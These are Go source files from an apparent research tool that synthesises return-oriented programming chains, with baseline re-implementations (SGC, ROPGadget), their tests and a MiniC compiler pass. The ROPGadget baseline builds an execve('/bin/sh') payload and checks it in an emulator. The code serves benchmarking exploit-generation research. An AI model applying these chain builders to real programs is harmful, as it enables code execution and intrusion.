// its stack delta; slots not otherwise assigned are filler.
func buildPayload(steps []payloadStep) ([]byte, bool) {
	var words []uint64
	// Chain cursor: index of the word holding the *current* gadget address.
	cur := 0
	words = append(words, 0) // placeholder for first gadget address
	for _, st := range steps {
		words[cur] = st.g.Location
		base := cur + 1 // entry rsp in words
		delta := st.g.Effect.StackDelta
		if st.ripOff < 0 {
			// Terminal syscall anchor: consumes nothing further.
			if delta < 0 || delta%8 != 0 {
				return nil, false
			}
			break
		}
		if delta%8 != 0 || delta < 8 {
			return nil, false
		}
		for len(words) < base+int(delta/8) {
			words = append(words, 0x4141414141414141)
		}
		if st.slotOff >= 0 {
			words[base+int(st.slotOff/8)] = st.val
		}
		cur = base + int(st.ripOff/8)
	}
	buf := make([]byte, 8*len(words))
	for i, w := range words {
		binary.LittleEndian.PutUint64(buf[8*i:], w)
	}
	return buf, true
}

// orderSetters finds a permutation where no setter clobbers a previously
// set register.
func orderSetters(setters []popGadget) ([]popGadget, bool) {
	n := len(setters)
	perm := make([]int, n)
	for i := range perm {
		perm[i] = i
	}
	var try func(k int) bool
	used := make([]bool, n)
	out := make([]popGadget, 0, n)
	try = func(k int) bool {
		if k == n {
			return true
		}
		for i := 0; i < n; i++ {
			if used[i] {
				continue
			}
			// setters[i] must not clobber any register already set.
			ok := true
			for _, prev := range out {
				for _, c := range setters[i].g.ClobRegs {
					if c == prev.reg {
						ok = false
					}
				}
			}
			if !ok {
				continue
			}
			used[i] = true
			out = append(out, setters[i])
			if try(k + 1) {
				return true
			}
			used[i] = false
			out = out[:len(out)-1]
		}
		return false
	}
	if !try(0) {
		return nil, false
	}
	return out, true
}

func pickSetter(setters map[isa.Reg][]popGadget, r isa.Reg) *popGadget {
	if list := setters[r]; len(list) > 0 {
		return &list[0]
	}
	return nil
}

// stackVarOffset extracts the payload offset from a pure stack-slot value.
func stackVarOffset(n *expr.Node) (int64, bool) {
	if n == nil || n.Kind != expr.KindVar {
		return 0, false
	}
	return symex.ParseStackVar(n.Name)
}

// regVarOf extracts a register from a pure initial-register value.
func regVarOf(b *expr.Builder, n *expr.Node) (isa.Reg, bool) {
	if n.Kind != expr.KindVar {
		return 0, false
	}
	return symex.IsRegVar(n.Name)
}

// alignedInputs requires all payload slots to be 8-byte sized and aligned
// (angrop's simple chain layout).
func alignedInputs(eff *symex.Effect) bool {
	for off, size := range eff.Inputs {
		if size != 8 || off%8 != 0 || off < 0 {
			return false
		}
	}
	return eff.StackDelta >= 8 && eff.StackDelta%8 == 0
}

// cleanRegs requires the writer gadget not to produce unplannable register
// effects (anything beyond slots/copies is fine for our purposes since the
// writer runs before the setters).
func cleanRegs(b *expr.Builder, g *gadget.Gadget) bool {
	return alignedInputs(g.Effect)
}
