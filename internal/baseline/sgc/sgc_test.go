package sgc

import (
	"testing"

	"github.com/nofreelunch/gadget-planner/internal/asm"
	"github.com/nofreelunch/gadget-planner/internal/benchprog"
	"github.com/nofreelunch/gadget-planner/internal/gadget"
	"github.com/nofreelunch/gadget-planner/internal/obfuscate"
	"github.com/nofreelunch/gadget-planner/internal/sbf"
)

func TestSelectionExcludesCondAndMerged(t *testing.T) {
	// A binary where rsi is reachable both via a plain pop and via a
	// conditional gadget: SGC's selection must keep the pool free of
	// conditional and merged gadgets entirely.
	src := `
    pop rax
    ret
    pop rdi
    ret
    pop rsi
    ret
    pop rdx
    ret
half:
    pop rbx
    jmp fin
    hlt
fin:
    ret
    cmp rcx, rbx
    jne 0x90000
    pop rcx
    ret
    syscall
`
	r, err := asm.Assemble(src, 0x401000)
	if err != nil {
		t.Fatal(err)
	}
	bin := sbf.New()
	bin.AddSection(sbf.Section{Name: ".text", Addr: 0x401000, Flags: sbf.FlagRead | sbf.FlagExec, Data: r.Code})
	res := (&Tool{}).Run(bin)
	if res.TotalPayloads() == 0 {
		t.Fatal("SGC found nothing despite a complete pop set")
	}
	for _, c := range res.Chains {
		for _, g := range c.Gadgets {
			if g.HasCond || g.Merged {
				t.Errorf("SGC chain uses excluded class: %s", g)
			}
		}
	}
}

func TestOrderingAgainstGadgetPlannerPool(t *testing.T) {
	// SGC's pool restriction makes it strictly weaker than the full pool
	// would allow on an obfuscated binary rich in conditional paths.
	p, _ := benchprog.ByName("fibonacci")
	bin, err := benchprog.Build(p, obfuscate.LLVMObf(), 42)
	if err != nil {
		t.Fatal(err)
	}
	res := (&Tool{MaxPlans: 4, MaxNodes: 3000}).Run(bin)
	if res.GadgetsTotal == 0 {
		t.Error("no gadgets collected")
	}
	full := gadget.Extract(bin, gadget.Options{})
	kept := 0
	for _, g := range full.Gadgets {
		if !g.HasCond && !g.Merged {
			kept++
		}
	}
	if kept >= full.Size() {
		t.Skip("binary has no excluded classes; nothing to compare")
	}
	t.Logf("payloads=%d from restricted pool %d/%d", res.TotalPayloads(), kept, full.Size())
}
