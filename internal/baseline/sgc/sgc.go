// Package sgc re-implements the SGC baseline (paper Section II-B): gadget
// chaining driven by logical formulas and an SMT solver. SGC is the
// strongest comparator: it handles return and indirect-jump gadgets and
// synthesizes chains with the solver — but it applies a gadget selection
// function that narrows the candidate pool, and it does not use
// conditional-jump or merged direct-jump gadgets (paper Table V row SGC).
//
// The implementation shares Gadget-Planner's backward search and solver
// machinery but restricts the pool and search budget accordingly, so the
// comparison isolates exactly the capabilities the paper credits each tool
// with.
package sgc

import (
	"time"

	"github.com/nofreelunch/gadget-planner/internal/baseline"
	"github.com/nofreelunch/gadget-planner/internal/gadget"
	"github.com/nofreelunch/gadget-planner/internal/isa"
	"github.com/nofreelunch/gadget-planner/internal/payload"
	"github.com/nofreelunch/gadget-planner/internal/planner"
	"github.com/nofreelunch/gadget-planner/internal/sbf"
	"github.com/nofreelunch/gadget-planner/internal/subsume"
)

// Tool is the SGC baseline.
type Tool struct {
	// MaxPlans bounds chains per goal. Default 8.
	MaxPlans int
	// MaxNodes bounds search effort (SGC's timeout analogue). Default 4000.
	MaxNodes int
	// Timeout bounds wall-clock per goal. Default 10s.
	Timeout time.Duration
}

var _ baseline.Tool = (*Tool)(nil)

// Name implements baseline.Tool.
func (*Tool) Name() string { return "SGC" }

// Run implements baseline.Tool.
func (t *Tool) Run(bin *sbf.Binary) *baseline.Result {
	maxPlans := t.MaxPlans
	if maxPlans == 0 {
		maxPlans = 8
	}
	maxNodes := t.MaxNodes
	if maxNodes == 0 {
		maxNodes = 4000
	}
	timeout := t.Timeout
	if timeout == 0 {
		timeout = 10 * time.Second
	}

	res := &baseline.Result{ToolName: t.Name()}
	raw := gadget.Extract(bin, gadget.Options{ISA: bin.ISA})
	res.GadgetsTotal = raw.Stats.Supported

	// SGC's gadget selection: return and indirect-jump gadgets only; no
	// conditional paths, no merged direct jumps.
	filtered := &gadget.Pool{
		Builder: raw.Builder,
		ISA:     raw.ISA,
		ByReg:   make(map[isa.Reg][]*gadget.Gadget),
		Stats:   raw.Stats,
	}
	for _, g := range raw.Gadgets {
		if g.HasCond || g.Merged {
			continue
		}
		addTo(filtered, g)
	}
	pool, _ := subsume.Minimize(filtered, subsume.Options{})

	for _, goal := range planner.GoalsForISA(pool.ISA) {
		goal := goal
		conc := payload.NewConcretizer(pool, bin, baseline.PayloadBase)
		search := planner.Search(pool, goal, planner.Options{
			MaxPlans:   maxPlans,
			MaxNodes:   maxNodes,
			Candidates: 4, // narrowed candidate sets per the paper
			Timeout:    timeout,
			Validate: func(p *planner.Plan) bool {
				pl, err := conc.Concretize(p, goal)
				if err != nil {
					return false
				}
				return payload.Verify(bin, pl, 0) == nil
			},
		})
		for _, p := range search.Plans {
			res.Chains = append(res.Chains, baseline.Chain{
				Goal:     goal.Name,
				Gadgets:  p.Chain(),
				Verified: true,
			})
		}
	}
	res.FillUsed()
	return res
}

func addTo(p *gadget.Pool, g *gadget.Gadget) {
	p.Gadgets = append(p.Gadgets, g)
	if g.JmpType == gadget.TypeSyscall {
		p.Syscalls = append(p.Syscalls, g)
	}
	for _, r := range g.ClobRegs {
		p.ByReg[r] = append(p.ByReg[r], g)
	}
}
