package ropgadget

import (
	"testing"

	"github.com/nofreelunch/gadget-planner/internal/asm"
	"github.com/nofreelunch/gadget-planner/internal/isa"
	"github.com/nofreelunch/gadget-planner/internal/sbf"
)

func TestMatchPiece(t *testing.T) {
	cases := []struct {
		src  string
		want string
		ok   bool
	}{
		{"pop rdi; ret", "pop rdi", true},
		{"pop rsi; ret", "pop rsi", true},
		{"pop rdx; ret", "pop rdx", true},
		{"pop rax; ret", "pop rax", true},
		{"syscall", "syscall", true},
		{"mov qword [rdi], rsi; ret", "write", true},
		{"pop rbx; ret", "", false},          // not a template register
		{"pop rdi; pop rbx; ret", "", false}, // not exact
		{"mov qword [rsi], rdi; ret", "", false},
		{"pop rdi; ret 8", "", false}, // ret imm breaks the template
	}
	for _, tt := range cases {
		r, err := asm.Assemble(tt.src, 0x1000)
		if err != nil {
			t.Fatal(err)
		}
		name, ok := matchPiece(r.Code, 0x1000)
		if ok != tt.ok || (ok && name != tt.want) {
			t.Errorf("matchPiece(%q) = %q,%v want %q,%v", tt.src, name, ok, tt.want, tt.ok)
		}
	}
}

func TestRunRequiresDataSection(t *testing.T) {
	src := "pop rax; ret; pop rdi; ret; pop rsi; ret; pop rdx; ret; mov qword [rdi], rsi; ret; syscall"
	r, err := asm.Assemble(src, 0x401000)
	if err != nil {
		t.Fatal(err)
	}
	bin := sbf.New()
	bin.AddSection(sbf.Section{Name: ".text", Addr: 0x401000, Flags: sbf.FlagRead | sbf.FlagExec, Data: r.Code})
	// No .data: the classic write-to-data strategy has nowhere to stage
	// "/bin/sh".
	res := (&Tool{}).Run(bin)
	if res.TotalPayloads() != 0 {
		t.Errorf("payloads without .data = %d", res.TotalPayloads())
	}
	_ = isa.RAX
}

func TestGadgetCountIsSyntactic(t *testing.T) {
	// The tool's pool size equals the classic scan, independent of whether
	// the chain template completes.
	r, err := asm.Assemble("ret; ret; ret", 0x1000)
	if err != nil {
		t.Fatal(err)
	}
	bin := sbf.New()
	bin.AddSection(sbf.Section{Name: ".text", Addr: 0x1000, Flags: sbf.FlagRead | sbf.FlagExec, Data: r.Code})
	res := (&Tool{}).Run(bin)
	if res.GadgetsTotal != 3 {
		t.Errorf("pool = %d, want 3 (three rets)", res.GadgetsTotal)
	}
}

func TestRunCompleteTemplate(t *testing.T) {
	src := `
    pop rax
    ret
    pop rdi
    ret
    pop rsi
    ret
    pop rdx
    ret
    mov qword [rdi], rsi
    ret
    syscall
`
	r, err := asm.Assemble(src, 0x401000)
	if err != nil {
		t.Fatal(err)
	}
	bin := sbf.New()
	bin.AddSection(sbf.Section{Name: ".text", Addr: 0x401000, Flags: sbf.FlagRead | sbf.FlagExec, Data: r.Code})
	bin.AddSection(sbf.Section{Name: ".data", Addr: 0x601000, Flags: sbf.FlagRead | sbf.FlagWrite, Data: make([]byte, 128)})
	res := (&Tool{}).Run(bin)
	if res.PayloadsFor("execve") != 1 {
		t.Fatalf("execve = %d, want 1", res.PayloadsFor("execve"))
	}
	if res.GadgetsUsed == 0 {
		t.Error("used gadgets untracked")
	}
	if Summary(res) == "" {
		t.Error("empty summary")
	}
}
