// Package ropgadget re-implements the ROPGadget baseline (paper Section
// II-B): purely syntactic gadget discovery (decode windows ending at ret
// bytes) and a hard-coded execve chain template. It only recognizes exact
// instruction patterns ("pop rdi; ret", "mov [rdi], rsi; ret", ...) and
// fails entirely when any template piece is missing — the paper's
// "restricted patterns" limitation.
package ropgadget

import (
	"encoding/binary"
	"fmt"

	"github.com/nofreelunch/gadget-planner/internal/baseline"
	"github.com/nofreelunch/gadget-planner/internal/emu"
	"github.com/nofreelunch/gadget-planner/internal/gadget"
	"github.com/nofreelunch/gadget-planner/internal/isa"
	"github.com/nofreelunch/gadget-planner/internal/sbf"
	"github.com/nofreelunch/gadget-planner/internal/symex"
)

// Tool is the ROPGadget baseline.
type Tool struct {
	// Depth is the maximum gadget length in instructions (ROPGadget's
	// --depth). Default 10.
	Depth int
}

var _ baseline.Tool = (*Tool)(nil)

// Name implements baseline.Tool.
func (*Tool) Name() string { return "ROPGadget" }

// Run implements baseline.Tool.
func (t *Tool) Run(bin *sbf.Binary) *baseline.Result {
	depth := t.Depth
	if depth == 0 {
		depth = 10
	}
	res := &baseline.Result{ToolName: t.Name()}
	be, ok := isa.ByName(bin.ISA)
	if !ok {
		return res
	}

	// Syntactic scan: every stride-th offset, decode until the first
	// ret/jmp — the classic count (this is what inflates on obfuscated
	// binaries). The scan runs through the binary's backend classification
	// hooks, so the count is meaningful on every ISA.
	res.GadgetsTotal = gadget.TotalCount(gadget.CountISA(bin, depth, be))

	// The execve chain template below is x86-64-specific (exact "pop reg;
	// ret" byte patterns and the SysV register file); on other backends
	// ROPGadget reports the syntactic count only.
	if isa.CanonicalISA(bin.ISA) != isa.DefaultISA {
		return res
	}

	// Template pieces: exact contiguous patterns only.
	pieces := map[string]uint64{}
	for _, sec := range bin.ExecSections() {
		for off := 0; off < len(sec.Data); off++ {
			addr := sec.Addr + uint64(off)
			if name, ok := matchPiece(sec.Data[off:], addr); ok {
				if _, seen := pieces[name]; !seen {
					pieces[name] = addr
				}
			}
		}
	}

	needed := []string{"pop rax", "pop rdi", "pop rsi", "pop rdx", "syscall", "write"}
	for _, n := range needed {
		if _, ok := pieces[n]; !ok {
			return res // template incomplete: ROPGadget gives up
		}
	}

	// Build the classic execve payload: write "/bin/sh" into .data, then
	// set registers and fire the syscall.
	data := bin.Section(".data")
	if data == nil || len(data.Data) < 16 {
		return res
	}
	binshAddr := data.End() - 16 // scribble area at the end of .data

	var words []uint64
	push := func(vs ...uint64) { words = append(words, vs...) }
	push(pieces["pop rdi"], binshAddr)
	push(pieces["pop rsi"], le8("/bin/sh\x00"))
	push(pieces["write"])
	push(pieces["pop rax"], 59)
	push(pieces["pop rdi"], binshAddr)
	push(pieces["pop rsi"], 0)
	push(pieces["pop rdx"], 0)
	push(pieces["syscall"])

	payload := make([]byte, 8*len(words))
	for i, w := range words {
		binary.LittleEndian.PutUint64(payload[8*i:], w)
	}

	chain := baseline.Chain{Goal: "execve"}
	if verifyExecve(bin, payload) {
		chain.Verified = true
		chain.Gadgets = piecesAsGadgets(pieces)
		res.Chains = append(res.Chains, chain)
	}
	res.FillUsed()
	return res
}

// matchPiece decodes at code[0] and tests the exact template patterns.
func matchPiece(code []byte, addr uint64) (string, bool) {
	i1, err := isa.Decode(code, addr)
	if err != nil {
		return "", false
	}
	if i1.Op == isa.OpSyscall {
		return "syscall", true
	}
	i2, err := isa.Decode(code[i1.Len:], addr+uint64(i1.Len))
	if err != nil || i2.Op != isa.OpRet || i2.A.Kind == isa.KindImm {
		return "", false
	}
	switch {
	case i1.Op == isa.OpPop && i1.A.Kind == isa.KindReg:
		switch i1.A.Reg {
		case isa.RAX:
			return "pop rax", true
		case isa.RDI:
			return "pop rdi", true
		case isa.RSI:
			return "pop rsi", true
		case isa.RDX:
			return "pop rdx", true
		}
	case i1.Op == isa.OpMov && i1.Size == 8 &&
		i1.A.Kind == isa.KindMem && i1.A.Mem.HasBase && !i1.A.Mem.HasIndex &&
		i1.A.Mem.Disp == 0 && i1.A.Mem.Base == isa.RDI &&
		i1.B.Kind == isa.KindReg && i1.B.Reg == isa.RSI:
		// mov qword [rdi], rsi; ret
		return "write", true
	}
	return "", false
}

func le8(s string) uint64 {
	var b [8]byte
	copy(b[:], s)
	return binary.LittleEndian.Uint64(b[:])
}

// verifyExecve runs the payload and checks execve("/bin/sh") fires.
func verifyExecve(bin *sbf.Binary, payload []byte) bool {
	m := emu.NewMachine()
	os := emu.NewOS()
	m.OS = os
	m.Mem.LoadBinary(bin)
	const base = uint64(0x7FFF_8000)
	m.Mem.Map(base-0x4000, 0x8000+uint64(len(payload)), emu.PermRead|emu.PermWrite)
	if err := m.Mem.WriteBytes(base, payload); err != nil {
		return false
	}
	m.Regs[isa.RSP] = base + 8
	var first uint64
	for i := 0; i < 8; i++ {
		first |= uint64(payload[i]) << (8 * i)
	}
	m.RIP = first
	_ = m.Run(10_000)
	ev := os.EventFor(emu.SysExecve)
	return ev != nil && ev.Path == "/bin/sh" && ev.Args[1] == 0 && ev.Args[2] == 0
}

// piecesAsGadgets wraps template pieces in minimal gadget records for
// reporting.
func piecesAsGadgets(pieces map[string]uint64) []*gadget.Gadget {
	out := make([]*gadget.Gadget, 0, len(pieces))
	for name, addr := range pieces {
		jt := gadget.TypeReturn
		if name == "syscall" {
			jt = gadget.TypeSyscall
		}
		out = append(out, &gadget.Gadget{
			Location: addr,
			JmpType:  jt,
			Steps:    fakeSteps(name),
			Effect:   &symex.Effect{End: endOf(jt)},
		})
	}
	return out
}

func endOf(jt gadget.JmpType) symex.EndKind {
	if jt == gadget.TypeSyscall {
		return symex.EndSyscall
	}
	return symex.EndRet
}

// fakeSteps synthesizes a 2-instruction step list for length statistics.
func fakeSteps(name string) []symex.Step {
	n := 2
	if name == "syscall" {
		n = 1
	}
	steps := make([]symex.Step, n)
	for i := range steps {
		steps[i] = symex.Step{Inst: isa.Inst{Op: isa.OpNop, Len: 1}}
	}
	return steps
}

// String renders a summary.
func Summary(r *baseline.Result) string {
	return fmt.Sprintf("%s: pool=%d payloads=%d", r.ToolName, r.GadgetsTotal, r.TotalPayloads())
}
