package baseline

import (
	"encoding/binary"

	"github.com/nofreelunch/gadget-planner/internal/payload"
	"github.com/nofreelunch/gadget-planner/internal/planner"
	"github.com/nofreelunch/gadget-planner/internal/sbf"
)

// PayloadBase is the stack address baseline payloads are built for.
const PayloadBase = uint64(0x7FFF_8000)

// VerifyBytes runs a raw chain payload in the emulator against the goal,
// reusing the Gadget-Planner validation harness (the shared ground truth
// for every tool in the comparison).
func VerifyBytes(bin *sbf.Binary, bytes []byte, goal planner.Goal) bool {
	if len(bytes) < 8 {
		return false
	}
	p := &payload.Payload{
		Bytes: bytes,
		Base:  PayloadBase,
		Entry: binary.LittleEndian.Uint64(bytes),
		Goal:  goal,
	}
	return payload.Verify(bin, p, 0) == nil
}
