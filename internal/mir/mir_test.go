package mir

import (
	"strings"
	"testing"

	"github.com/nofreelunch/gadget-planner/internal/minic"
)

func lower(t *testing.T, src string) *Module {
	t.Helper()
	prog, err := minic.Parse(src)
	if err != nil {
		t.Fatal(err)
	}
	m, err := Lower(prog)
	if err != nil {
		t.Fatal(err)
	}
	return m
}

func TestLowerBasicShape(t *testing.T) {
	m := lower(t, `
int g = 7;
int add(int a, int b) { return a + b; }
int main() { return add(g, 2); }
`)
	if m.Func("main") == nil || m.Func("add") == nil {
		t.Fatal("functions missing")
	}
	if !m.HasGlobal("g") {
		t.Error("global g missing")
	}
	add := m.Func("add")
	if add.NumParam != 2 || !add.HasRet {
		t.Errorf("add = %+v", add)
	}
	for _, f := range m.Funcs {
		if err := Verify(f); err != nil {
			t.Errorf("verify %s: %v", f.Name, err)
		}
	}
}

func TestLowerControlFlowBlocks(t *testing.T) {
	m := lower(t, `
int main() {
    int i;
    int s = 0;
    for (i = 0; i < 10; i++) {
        if (i == 5) continue;
        s += i;
    }
    return s;
}
`)
	f := m.Func("main")
	if len(f.Blocks) < 5 {
		t.Errorf("blocks = %d, want several", len(f.Blocks))
	}
	// The printed form must mention a condbr.
	if !strings.Contains(f.String(), "condbr") {
		t.Errorf("no condbr in:\n%s", f)
	}
}

func TestLowerErrors(t *testing.T) {
	cases := []string{
		"int main() { return x; }",                  // undefined variable
		"int main() { int a[2]; a = 0; return 0; }", // assign to array
		"int main() { return f(); }",                // undefined function
		"int main() { print_int(1, 2); return 0; }", // arity
		"int main() { break; return 0; }",
		"int f() { return 1; } int f() { return 2; } int main() { return 0; }",
		"int x; int x; int main() { return 0; }",
		"int main() { int y = *3; return y; }", // deref non-pointer
	}
	for _, src := range cases {
		prog, err := minic.Parse(src)
		if err != nil {
			continue // parse-level rejection also fine
		}
		if _, err := Lower(prog); err == nil {
			t.Errorf("Lower(%q) succeeded", src)
		}
	}
	// Missing main.
	prog, err := minic.Parse("int f() { return 1; }")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := Lower(prog); err == nil {
		t.Error("missing main accepted")
	}
}

func TestLowerDuplicateFunctionCheck(t *testing.T) {
	// Duplicate function names silently shadow today would be a bug; the
	// lowerer indexes by name so the call goes to one of them — ensure the
	// module at least verifies.
	m := lower(t, "int main() { return 0; }")
	if len(m.Funcs) != 6 { // runtime prelude not included here: just main
		// Only main: prelude is added by codegen.BuildProgram, not Lower.
		if len(m.Funcs) != 1 {
			t.Errorf("funcs = %d", len(m.Funcs))
		}
	}
}

func TestVerifyCatchesBrokenIR(t *testing.T) {
	f := &Func{Name: "bad"}
	b := f.NewBlock()
	// Use of undefined vreg.
	b.Instrs = append(b.Instrs, Instr{Kind: InstBin, Dst: 0, Op: OpAdd, A: 5, B: 6})
	b.Term = Term{Kind: TermRet}
	if err := Verify(f); err == nil {
		t.Error("undefined vreg accepted")
	}

	f2 := &Func{Name: "bad2"}
	b2 := f2.NewBlock()
	v := f2.NewVReg()
	b2.Instrs = append(b2.Instrs, Instr{Kind: InstConst, Dst: v, Val: 1})
	b2.Term = Term{Kind: TermBr, Target: 99}
	if err := Verify(f2); err == nil {
		t.Error("invalid branch target accepted")
	}

	f3 := &Func{Name: "bad3"}
	f3.NewBlock() // no terminator
	if err := Verify(f3); err == nil {
		t.Error("missing terminator accepted")
	}
}

func TestStringInterning(t *testing.T) {
	m := lower(t, `
int main() {
    char *a = "same";
    char *b = "same";
    char *c = "different";
    return a[0] + b[0] + c[0];
}
`)
	count := 0
	for _, g := range m.Globals {
		if strings.HasPrefix(g.Name, "str_") {
			count++
		}
	}
	if count != 2 {
		t.Errorf("interned strings = %d, want 2", count)
	}
}

func TestGlobalInitializers(t *testing.T) {
	m := lower(t, `
int a = 2 + 3 * 4;
int arr[2] = {10, -1};
char s[] = "ab";
int main() { return 0; }
`)
	var ga, garr, gs *GlobalData
	for i := range m.Globals {
		switch m.Globals[i].Name {
		case "a":
			ga = &m.Globals[i]
		case "arr":
			garr = &m.Globals[i]
		case "s":
			gs = &m.Globals[i]
		}
	}
	if ga == nil || ga.Init[0] != 14 {
		t.Errorf("a init = %v", ga)
	}
	if garr == nil || garr.Init[8] != 0xFF {
		t.Errorf("arr init = %v", garr)
	}
	if gs == nil || string(gs.Init) != "ab\x00" {
		t.Errorf("s init = %q", gs.Init)
	}
}

func TestInstrAndTermStrings(t *testing.T) {
	ins := Instr{Kind: InstBin, Dst: 2, Op: OpAdd, A: 0, B: 1}
	if ins.String() != "v2 = add v0, v1" {
		t.Errorf("instr = %q", ins)
	}
	term := Term{Kind: TermCondBr, Cond: 3, Target: 1, Else: 2}
	if term.String() != "condbr v3, b1, b2" {
		t.Errorf("term = %q", term)
	}
	jt := Term{Kind: TermJumpTable, Index: 1, Targets: []int{0, 1}}
	if !strings.Contains(jt.String(), "jumptable") {
		t.Errorf("jt = %q", jt)
	}
}
