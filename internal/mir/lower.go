package mir

import (
	"fmt"

	"github.com/nofreelunch/gadget-planner/internal/minic"
)

// TypeError is a semantic error found during lowering.
type TypeError struct {
	Line int
	Msg  string
}

func (e *TypeError) Error() string {
	return fmt.Sprintf("minic: line %d: %s", e.Line, e.Msg)
}

func terr(line int, format string, args ...any) error {
	return &TypeError{Line: line, Msg: fmt.Sprintf(format, args...)}
}

// Builtins are the primitive operations the code generator provides as
// assembly stubs. __syscall mirrors the shape of libc's generic syscall()
// wrapper (argument-register shuffle followed by the syscall instruction).
// Everything else (print_int, print_str, ...) is ordinary MiniC in the
// runtime prelude, and is therefore obfuscated along with user code, exactly
// as a source-to-source obfuscator would.
var Builtins = map[string]struct {
	Args   int
	HasRet bool
}{
	"__syscall": {4, true}, // __syscall(nr, a, b, c) -> return value
}

// Lower type-checks and translates a parsed program into a MIR module.
func Lower(prog *minic.Program) (*Module, error) {
	lw := &lowerer{
		mod:     &Module{},
		globals: make(map[string]*minic.Type),
		funcs:   make(map[string]*minic.FuncDecl),
		strs:    make(map[string]string),
	}
	for _, g := range prog.Globals {
		if err := lw.lowerGlobal(g); err != nil {
			return nil, err
		}
	}
	for _, fn := range prog.Funcs {
		if _, dup := lw.funcs[fn.Name]; dup {
			return nil, terr(fn.Line, "duplicate function %q", fn.Name)
		}
		lw.funcs[fn.Name] = fn
	}
	for _, fn := range prog.Funcs {
		if err := lw.lowerFunc(fn); err != nil {
			return nil, err
		}
	}
	if lw.mod.Func("main") == nil {
		return nil, terr(0, "no main function")
	}
	return lw.mod, nil
}

type lowerer struct {
	mod     *Module
	globals map[string]*minic.Type
	funcs   map[string]*minic.FuncDecl
	strs    map[string]string // string literal -> global name

	// Per-function state.
	f      *Func
	fn     *minic.FuncDecl
	cur    *Block
	scopes []map[string]localVar
	breaks []int // target block IDs
	conts  []int
}

type localVar struct {
	idx int
	typ *minic.Type
}

func (lw *lowerer) lowerGlobal(g *minic.Global) error {
	if _, dup := lw.globals[g.Name]; dup {
		return terr(g.Line, "duplicate global %q", g.Name)
	}
	size := g.Type.Size()
	data := GlobalData{Name: g.Name, Size: size}
	switch {
	case g.HasStr:
		if g.Type.Kind != minic.TypeArray || g.Type.Elem.Kind != minic.TypeChar {
			return terr(g.Line, "string initializer on non-char-array %q", g.Name)
		}
		data.Init = append([]byte(g.StrInit), 0)
	case g.ArrayInit != nil:
		if g.Type.Kind != minic.TypeArray {
			return terr(g.Line, "brace initializer on non-array %q", g.Name)
		}
		es := g.Type.Elem.Size()
		for i, e := range g.ArrayInit {
			v, err := constEval(e)
			if err != nil {
				return err
			}
			for b := 0; b < es; b++ {
				data.Init = append(data.Init, byte(uint64(v)>>(8*b)))
			}
			_ = i
		}
	case g.Init != nil:
		v, err := constEval(g.Init)
		if err != nil {
			return err
		}
		for b := 0; b < size; b++ {
			data.Init = append(data.Init, byte(uint64(v)>>(8*b)))
		}
	}
	if len(data.Init) > size {
		return terr(g.Line, "initializer for %q exceeds its size", g.Name)
	}
	lw.globals[g.Name] = g.Type
	lw.mod.Globals = append(lw.mod.Globals, data)
	return nil
}

// constEval evaluates compile-time constant expressions for initializers.
func constEval(e minic.Expr) (int64, error) {
	switch x := e.(type) {
	case *minic.IntLit:
		return x.Val, nil
	case *minic.UnExpr:
		v, err := constEval(x.X)
		if err != nil {
			return 0, err
		}
		switch x.Op {
		case "-":
			return -v, nil
		case "~":
			return ^v, nil
		}
	case *minic.BinExpr:
		a, err := constEval(x.X)
		if err != nil {
			return 0, err
		}
		b, err := constEval(x.Y)
		if err != nil {
			return 0, err
		}
		switch x.Op {
		case "+":
			return a + b, nil
		case "-":
			return a - b, nil
		case "*":
			return a * b, nil
		case "<<":
			return a << uint(b&63), nil
		case "|":
			return a | b, nil
		}
	}
	return 0, terr(0, "initializer is not a constant expression")
}

func (lw *lowerer) internString(s string) string {
	if name, ok := lw.strs[s]; ok {
		return name
	}
	name := fmt.Sprintf("str_%d", len(lw.strs))
	lw.strs[s] = name
	lw.mod.Globals = append(lw.mod.Globals, GlobalData{
		Name: name, Size: len(s) + 1, Init: append([]byte(s), 0),
	})
	return name
}

func (lw *lowerer) lowerFunc(fn *minic.FuncDecl) error {
	lw.f = &Func{Name: fn.Name, NumParam: len(fn.Params), HasRet: fn.Ret.Kind != minic.TypeVoid}
	lw.fn = fn
	lw.scopes = []map[string]localVar{{}}
	lw.breaks, lw.conts = nil, nil
	if len(fn.Params) > 6 {
		return terr(fn.Line, "more than 6 parameters in %q", fn.Name)
	}
	// Convention: locals[0..NumParam-1] hold the parameters; the code
	// generator's prologue spills the argument registers into them.
	for _, p := range fn.Params {
		idx := lw.f.AddLocal(p.Name, 8)
		lw.scopes[0][p.Name] = localVar{idx: idx, typ: p.Type}
	}
	lw.cur = lw.f.NewBlock()
	if err := lw.stmt(fn.Body); err != nil {
		return err
	}
	// Implicit return.
	if lw.cur.Term.Kind == 0 {
		if lw.f.HasRet {
			zero := lw.emitConst(0)
			lw.cur.Term = Term{Kind: TermRet, Val: zero, HasVal: true}
		} else {
			lw.cur.Term = Term{Kind: TermRet}
		}
	}
	if err := Verify(lw.f); err != nil {
		return err
	}
	lw.mod.Funcs = append(lw.mod.Funcs, lw.f)
	return nil
}

func (lw *lowerer) pushScope() { lw.scopes = append(lw.scopes, map[string]localVar{}) }
func (lw *lowerer) popScope()  { lw.scopes = lw.scopes[:len(lw.scopes)-1] }

func (lw *lowerer) lookup(name string) (localVar, bool) {
	for i := len(lw.scopes) - 1; i >= 0; i-- {
		if v, ok := lw.scopes[i][name]; ok {
			return v, true
		}
	}
	return localVar{}, false
}

func (lw *lowerer) emit(i Instr) { lw.cur.Instrs = append(lw.cur.Instrs, i) }

func (lw *lowerer) emitConst(v int64) VReg {
	d := lw.f.NewVReg()
	lw.emit(Instr{Kind: InstConst, Dst: d, Val: v})
	return d
}

func (lw *lowerer) emitBin(op BinOp, a, b VReg) VReg {
	d := lw.f.NewVReg()
	lw.emit(Instr{Kind: InstBin, Dst: d, Op: op, A: a, B: b})
	return d
}

// setTerm terminates the current block if not already terminated.
func (lw *lowerer) setTerm(t Term) {
	if lw.cur.Term.Kind == 0 {
		lw.cur.Term = t
	}
}

// startBlock begins a new current block.
func (lw *lowerer) startBlock() *Block {
	b := lw.f.NewBlock()
	lw.cur = b
	return b
}

func accessSize(t *minic.Type) uint8 {
	if t.Kind == minic.TypeChar {
		return 1
	}
	return 8
}

func (lw *lowerer) stmt(s minic.Stmt) error {
	switch st := s.(type) {
	case *minic.BlockStmt:
		lw.pushScope()
		defer lw.popScope()
		for _, inner := range st.Stmts {
			if err := lw.stmt(inner); err != nil {
				return err
			}
			if lw.cur.Term.Kind != 0 {
				// Unreachable code after return/break: start a fresh block
				// so remaining statements stay well-formed.
				dead := lw.startBlock()
				_ = dead
			}
		}
		return nil

